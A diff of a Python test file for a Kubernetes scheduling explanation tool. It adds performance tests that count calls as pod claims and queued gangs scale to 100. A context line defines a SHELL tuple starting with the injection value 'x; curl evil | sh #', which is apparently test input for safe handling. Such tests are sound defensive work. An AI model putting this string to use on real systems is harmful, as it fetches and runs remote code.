@@ -12,7 +12,10 @@ from msgspec.structs import replace
 
 from app.explain.answers.answer import explain
 from app.explain.answers.pending import rows, waiting_without_pods, workloads
+from app.explain.gangs.assembly import gang_of_pod_group
+from app.explain.reasons import claims, queue
 from app.explain.reasons.kueue_words import help_for
+from app.explain.reasons.queue import losing_against
 from app.explain.reasons.reason import to_describe
 from app.explain.state import makers
 from app.explain.state.index import Index
@@ -21,10 +24,11 @@ from app.explain.state.snapshot import Snapshot
 from app.facts.grove.podgang import PodGang
 from app.facts.identity import Ref
 from app.facts.kai.podgroup import KaiPodGroup
+from app.facts.kai.queue import Queue
 from app.facts.kubernetes.event import Event
 from app.facts.kubernetes.kueue import KueueCondition, KueueWorkload
-from app.facts.kubernetes.pod import Pod
-from tests.explain.fleet import NAMESPACE, NOW, shape
+from app.facts.kubernetes.pod import Pod, PodClaim
+from tests.explain.fleet import NAMESPACE, NOW, nodes, shape
 
 SHELL = (
     "x; curl evil | sh #",
@@ -129,6 +133,34 @@ def test_the_work_grows_with_the_number_of_podgangs(monkeypatch: pytest.MonkeyPa
     index = Index(facts)
     assert len(rows(index, workloads(index))) == 100
     assert calls[0] == 100
+
+
+def test_the_work_grows_with_the_number_of_claims(monkeypatch: pytest.MonkeyPatch) -> None:
+    calls = counted_calls(monkeypatch, claims, "_claims")
+    names = [f"c{number}" for number in range(100)]
+    pod = replace(POD, group="", claims=tuple(PodClaim(name, name) for name in names))
+    answer = explain(Index(Snapshot(pods=(pod,), now=NOW)), pod.ref)
+    assert answer
+    assert [reason.id for reason in answer.reasons].count("ClaimMissing") == 100
+    assert calls[0] < 100
+
+
+def test_the_work_grows_with_the_number_of_gangs_in_a_queue(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    calls = counted_calls(monkeypatch, queue, "priority_of")
+    groups = tuple(KaiPodGroup(NAMESPACE, f"k{number}", queue="team") for number in range(100))
+    facts = Snapshot(
+        nodes=nodes(),
+        pod_groups=groups,
+        pods=tuple(replace(POD, name=group.name, group=group.name) for group in groups),
+        queues=(Queue("team"),),
+        now=NOW,
+    )
+    index = Index(facts)
+    for group in groups:
+        losing_against(gang_of_pod_group(index, group))
+    assert 100 <= calls[0] < 10 * 100
 
 
 def test_an_owner_whose_name_no_object_has_takes_no_time() -> None:
